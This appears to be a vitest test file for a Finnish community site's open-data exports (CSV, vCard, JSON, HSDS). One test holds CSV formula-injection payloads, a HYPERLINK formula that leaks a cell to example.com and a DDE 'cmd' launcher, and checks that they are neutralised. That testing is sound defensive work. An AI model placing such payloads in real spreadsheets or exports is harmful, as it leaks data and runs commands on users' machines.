import { readdirSync, readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { describe, expect, test } from 'vitest';
import { actorSchema } from '~/schemas/actor';
import { createTranslator } from '~/lib/i18n';
import { indexContent } from '~/lib/site-index';
import type { PageContext } from '~/lib/page-context';
import { activeActors, actorsForExport, contactFacts } from '~/lib/exports/contact-facts';
import { CSV_COLUMNS, contactsCsv, spreadsheetSafe } from '~/lib/exports/contacts-csv';
import { hsdsOrganizations, hsdsTaxonomyTerms } from '~/lib/exports/hsds';
import { datasetDocument } from '~/lib/exports/json-export';
import { jsonDatasets, jsonSchemaOf } from '~/lib/exports/json-schemas';
import { stableUuid } from '~/lib/exports/stable-uuid';
import { vCardFile } from '~/lib/exports/vcard';
import { buildOpenDataPage } from '~/lib/view-models/open-data-page';
import { siteContent } from '../fixtures/site-content';
import { defaultSettings } from '../fixtures/page-context';

const site = new URL('https://hyvinvointipuu.example/');
const licence = defaultSettings.openDataLicence;

/** The shared fixture plus an actor whose name and address need quoting in CSV and escaping in vCard. */
function context(): PageContext {
  const content = siteContent();
  content.actors.push({
    id: 'alajarvi/kylayhdistys',
    data: actorSchema.parse({
      name: 'Kylä "Mäki", ry; Ala-Kylä',
      kind: 'village-society',
      branches: ['liikunta', 'vapaaehtoistoiminta'],
      description: 'Kylätalo, talkoot; ja "kesäjuhlat".\nToinen rivi.',
      address: { street: 'Kylätie 1, B', postalCode: '62900', city: 'Alajärvi' },
      contacts: [{ title: 'sihteeri', phones: ['040 111 2222'] }],
      verified: '2025-05-02',
    }),
  });
  return {
    lang: 'fi',
    t: createTranslator('fi'),
    index: indexContent(content),
    now: '2026-01-01 12:00',
    settings: defaultSettings,
  };
}

const facts = (ctx: PageContext, municipalityId?: string) =>
  actorsForExport(ctx, municipalityId).map((actor) => contactFacts(ctx, actor, site));

function csvRecords(ctx: PageContext, municipalityId?: string): Record<string, string>[] {
  return parseCsv(contactsCsv(facts(ctx, municipalityId), ctx.t), { bom: true, columns: true });
}

function vCards(ctx: PageContext, municipalityId?: string): ICAL.Component[] {
  const parsed = ICAL.parse(vCardFile(facts(ctx, municipalityId)));
  const cards = (Array.isArray(parsed[0]) ? parsed : [parsed]) as unknown[];
  return cards.map((card) => new ICAL.Component(card as never));
}

describe('which actors the contact exports hold', () => {
  test('the region holds every active actor once, leaving inactive and defunct ones out', () => {
    const ctx = context();
    expect(actorsForExport(ctx).map((actor) => actor.id)).toEqual(activeActors(ctx.index.actors).map((actor) => actor.id));
    expect(actorsForExport(ctx).map((actor) => actor.data.status)).not.toContain('defunct');
    expect(actorsForExport(ctx).map((actor) => actor.id)).not.toContain('alajarvi/tauolla');
  });

  test('a municipality holds its own active actors and those from elsewhere that work there', () => {
    expect(actorsForExport(context(), 'alajarvi').map((actor) => actor.id)).toEqual([
      'alajarvi/kylayhdistys',
      'alajarvi/urheiluseura',
      'alajarvi/aanekoski-seura',
      'vimpeli/spr',
    ]);
  });
});

describe('the contacts CSV', () => {
  test('parses back with a CSV library into one row per active actor, headed in Finnish', () => {
    const ctx = context();
    const records = csvRecords(ctx);
    expect(records.map((record) => record['tunniste'])).toEqual(actorsForExport(ctx).map((actor) => actor.id));
    expect(Object.keys(records[0]!)).toEqual(CSV_COLUMNS.map((column) => ctx.t(`export.csv.${column}`)));
  });

  test('keeps commas, quotes, semicolons and line breaks inside their cells', () => {
    const row = csvRecords(context()).find((record) => record['tunniste'] === 'alajarvi/kylayhdistys')!;
    expect(row['nimi']).toBe('Kylä "Mäki", ry; Ala-Kylä');
    expect(row['katuosoite']).toBe('Kylätie 1, B');
    expect(row['postinumero']).toBe('62900');
    expect(row['kasvustot']).toBe('Liikunta; Vapaaehtoistoiminta');
    expect(row['yhteyshenkilöt']).toBe('sihteeri: +358401112222');
  });

  test('gives role contacts, phones in international form, the business ID and the page address', () => {
    const row = csvRecords(context()).find((record) => record['tunniste'] === 'vimpeli/spr')!;
    expect(row).toMatchObject({
      sähköposti: 'vimpeli@example.org',
      yhteyshenkilöt: 'puheenjohtaja: pj@example.org, +35861234567, +358407654321',
      'Y-tunnus': '1234567-1',
      kotikunta: 'Vimpeli',
      'toimii myös': 'Alajärvi',
      vahvistettu: '2026-01-15',
      sivu: 'https://hyvinvointipuu.example/vimpeli/toimijat/spr/',
    });
  });

  test('puts an apostrophe before a cell a spreadsheet would run as a formula, and leaves other cells as they are', () => {
    expect(['=1+1', '+358401112222', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(spreadsheetSafe)).toEqual([
      "'=1+1",
      "'+358401112222",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
    ]);
    expect(['', 'Kylä "Mäki"', 'Ala-Kylä', 'a=b', ' =1'].map(spreadsheetSafe)).toEqual([
      '',
      'Kylä "Mäki"',
      'Ala-Kylä',
      'a=b',
      ' =1',
    ]);
  });

  test('carries a hostile name and address into the file as text a spreadsheet does not run', () => {
    const ctx = context();
    ctx.index = indexContent({
      ...siteContent(),
      actors: [
        ...siteContent().actors,
        {
          id: 'alajarvi/hyokkaaja',
          data: actorSchema.parse({
            name: '=HYPERLINK("https://example.com/?"&A1,"Avaa")',
            alternateName: "@SUM(1+1)*cmd|' /C calc'!A0",
            kind: 'association',
            branches: ['liikunta'],
            description: 'Kuvaus.',
            address: { street: '-2+3+cmd', postalCode: '62900', city: '+Alajärvi' },
            verified: '2025-05-02',
          }),
        },
      ],
    });
    const row = csvRecords(ctx).find((record) => record['tunniste'] === 'alajarvi/hyokkaaja')!;
    expect(row['nimi']).toBe('\'=HYPERLINK("https://example.com/?"&A1,"Avaa")');
    expect(row['muu nimi']).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row['katuosoite']).toBe("'-2+3+cmd");
    expect(row['postitoimipaikka']).toBe("'+Alajärvi");
    // No cell of the whole file, parsed back, begins with a character that starts a formula.
    const cells = csvRecords(ctx).flatMap((record) => Object.values(record));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test('starts with a byte order mark and ends rows with CRLF, as spreadsheet programs expect', () => {
    const ctx = context();
    const text = contactsCsv(facts(ctx), ctx.t);
    expect(text.startsWith('\uFEFFtunniste,nimi,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(actorsForExport(ctx).length + 2);
  });
});

describe('the vCards', () => {
  test('parse back into one organisation card per active actor with its stable UID', () => {
    const ctx = context();
    const cards = vCards(ctx);
    expect(cards.map((card) => card.getFirstPropertyValue('fn'))).toEqual(actorsForExport(ctx).map((actor) => actor.data.name));
    expect(cards.map((card) => card.getFirstPropertyValue('kind'))).toEqual(cards.map(() => 'org'));
    expect(cards.map((card) => card.getFirstPropertyValue('uid'))).toEqual(
      actorsForExport(ctx).map((actor) => `urn:uuid:${stableUuid('organization', actor.id)}`),
    );
  });

  test('carry emails, phones, categories and the page, escaped so they read back unchanged', () => {
    const cards = vCards(context(), 'vimpeli');
    const spr = cards.find((card) => card.getFirstPropertyValue('fn') === 'SPR:n Vimpelin osasto')!;
    expect(spr.getAllProperties('email').map((property) => property.getFirstValue())).toEqual([
      'vimpeli@example.org',
      'pj@example.org',
    ]);
    expect(spr.getAllProperties('tel').map((property) => property.getFirstValue())).toEqual([
      'tel:+35861234567',
      'tel:+358407654321',
    ]);
    expect(spr.getFirstProperty('categories')!.getValues()).toEqual(['yhdistys', 'Vapaaehtoistoiminta']);
    expect(spr.getFirstPropertyValue('source')).toBe('https://hyvinvointipuu.example/vimpeli/toimijat/spr/');
    expect(String(spr.getFirstPropertyValue('note'))).toContain('puheenjohtaja: pj@example.org');

    const village = vCards(context(), 'alajarvi').find(
      (card) => card.getFirstPropertyValue('uid') === `urn:uuid:${stableUuid('organization', 'alajarvi/kylayhdistys')}`,
    )!;
    expect(village.getFirstPropertyValue('fn')).toBe('Kylä "Mäki", ry; Ala-Kylä');
    expect(village.getFirstPropertyValue('adr')).toEqual(['', '', 'Kylätie 1, B', 'Alajärvi', '', '62900', 'Suomi']);
    expect(String(village.getFirstPropertyValue('note'))).toContain('Kylätalo, talkoot; ja "kesäjuhlat".\nToinen rivi.');
    expect(String(village.getFirstPropertyValue('rev'))).toBe('2025-05-02T00:00:00Z');
  });
});

describe('the JSON datasets', () => {
  const ajv = addFormats(new Ajv2020({ allErrors: true, strict: true }));
  const validatorOf = (dataset: (typeof jsonDatasets)[number]) =>
    ajv.getSchema(`https://hyvinvointipuu.example/avoin-data/${dataset}.schema.json`) ??
    ajv.compile(jsonSchemaOf(dataset, `https://hyvinvointipuu.example/avoin-data/${dataset}.schema.json`));

  test.each(jsonDatasets)('%s.json is valid against its own published schema', (dataset) => {
    const validate = validatorOf(dataset);
    const document = datasetDocument(context(), dataset, site, `/avoin-data/${dataset}.schema.json`);
    expect(validate(document), ajv.errorsText(validate.errors)).toBe(true);
  });

  test('the schema catches a field the documentation does not describe', () => {
    const validate = validatorOf('toimijat');
    const document = datasetDocument(context(), 'toimijat', site, '/avoin-data/toimijat.schema.json');
    (document.items as Record<string, unknown>[])[0]!['phone'] = '06 123 4567';
    expect(validate(document)).toBe(false);
    expect(ajv.errorsText(validate.errors)).toContain('must NOT have additional properties');
  });

  test('hold every entry with its references as ids and the licence', () => {
    const ctx = context();
    const actors = datasetDocument(ctx, 'toimijat', site, '/s.json');
    expect(actors.licence).toEqual(licence);
    expect((actors.items as { id: string }[]).map((item) => item.id)).toEqual(ctx.index.actors.map((actor) => actor.id));
    const events = datasetDocument(ctx, 'tapahtumat', site, '/s.json').items as Record<string, unknown>[];
    expect(events[0]).toMatchObject({ start: '2018-04-17', organisers: ['alajarvi/urheiluseura'], attendance: 10 });
  });
});

describe('the Open Referral HSDS export', () => {
  const hsdsFolder = new URL('../fixtures/hsds/', import.meta.url);
  const ajv = addFormats(new Ajv2020({ allErrors: true, strict: false }));
  for (const file of readdirSync(hsdsFolder).filter((name) => name.endsWith('.json') && name !== 'openapi.json')) {
    ajv.addSchema(JSON.parse(readFileSync(new URL(file, hsdsFolder), 'utf8')), file);
  }

  test('every organization is valid against the official HSDS 3.0 organization schema', () => {
    const validate = ajv.getSchema('organization.json')!;
    const organizations = hsdsOrganizations(context(), activeActors(context().index.actors), site);
    expect(organizations).toHaveLength(activeActors(context().index.actors).length);
    for (const organization of organizations) expect(validate(organization), ajv.errorsText(validate.errors)).toBe(true);
  });

  test('the HSDS schema rejects what it should, so the check above can fail', () => {
    const validate = ajv.getSchema('organization.json')!;
    expect(validate({ id: 'not-a-uuid', name: 'X', description: 'Y' })).toBe(false);
    expect(validate({ id: stableUuid('organization', 'x'), name: 'X' })).toBe(false);
  });

  test('uses HSDS field names for contacts, phones, addresses and branches as taxonomy terms', () => {
    const ctx = context();
    const [spr] = hsdsOrganizations(ctx, [ctx.index.actor.get('vimpeli/spr')!], site) as Record<string, any>[];
    expect(spr!.contacts[0]).toMatchObject({ title: 'puheenjohtaja', email: 'pj@example.org' });
    expect(spr!.contacts[0].phones.map((phone: { number: string }) => phone.number)).toEqual(['+35861234567', '+358407654321']);
    expect(spr!.organization_identifiers[0]).toMatchObject({ identifier_type: 'Y-tunnus', identifier: '1234567-1' });
    expect(spr!.attributes[0]).toMatchObject({
      link_entity: 'organization',
      link_id: spr!.id,
      taxonomy_term: {
        code: 'vapaaehtoistoiminta',
        name: 'Vapaaehtoistoiminta',
        parent_id: stableUuid('taxonomy_term', 'terveys'),
      },
    });

    const [village] = hsdsOrganizations(ctx, [ctx.index.actor.get('alajarvi/kylayhdistys')!], site) as Record<string, any>[];
    expect(village!.locations[0].addresses[0]).toMatchObject({
      address_1: 'Kylätie 1, B',
      city: 'Alajärvi',
      postal_code: '62900',
      state_province: 'Etelä-Pohjanmaa',
      country: 'FI',
      address_type: 'physical',
    });
  });

  test('every taxonomy term is valid and sub-branches point to their parent', () => {
    const validate = ajv.getSchema('taxonomy_term.json')!;
    const terms = hsdsTaxonomyTerms(context(), site);
    for (const term of terms) expect(validate(term), ajv.errorsText(validate.errors)).toBe(true);
    const ids = new Set(terms.map((term) => term.id));
    for (const term of terms.filter((term) => term.parent_id)) expect(ids.has(term.parent_id)).toBe(true);
  });

  test('ids are UUIDs that stay the same from build to build', () => {
    expect(stableUuid('organization', 'vimpeli/spr')).toBe(stableUuid('organization', 'vimpeli/spr'));
    expect(stableUuid('organization', 'vimpeli/spr')).not.toBe(stableUuid('contact', 'vimpeli/spr'));
    expect(stableUuid('organization', 'vimpeli/spr')).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
  });
});

describe('the open-data page', () => {
  test('lists the region and every municipality with its actors, counted as every page counts them, and the active ones in their files', () => {
    const page = buildOpenDataPage(context());
    expect(page.contactRows.map((row) => [row.label, row.actorCount, row.contactCount, row.csv])).toEqual([
      ['Kaikki kunnat', 5, 4, '/avoin-data/yhteystiedot.csv'],
      ['Alajärvi', 5, 4, '/avoin-data/alajarvi/yhteystiedot.csv'],
      ['Vimpeli', 1, 1, '/avoin-data/vimpeli/yhteystiedot.csv'],
    ]);
    expect(page.datasetRows.map((row) => [row.href, row.itemCount])).toEqual([
      ['/avoin-data/kunnat.json', 2],
      ['/avoin-data/kasvustot.json', 3],
      ['/avoin-data/toimijat.json', 6],
      ['/avoin-data/hedelmat.json', 1],
      ['/avoin-data/tapahtumat.json', 1],
    ]);
    expect(page.licence).toEqual(licence);
  });
});
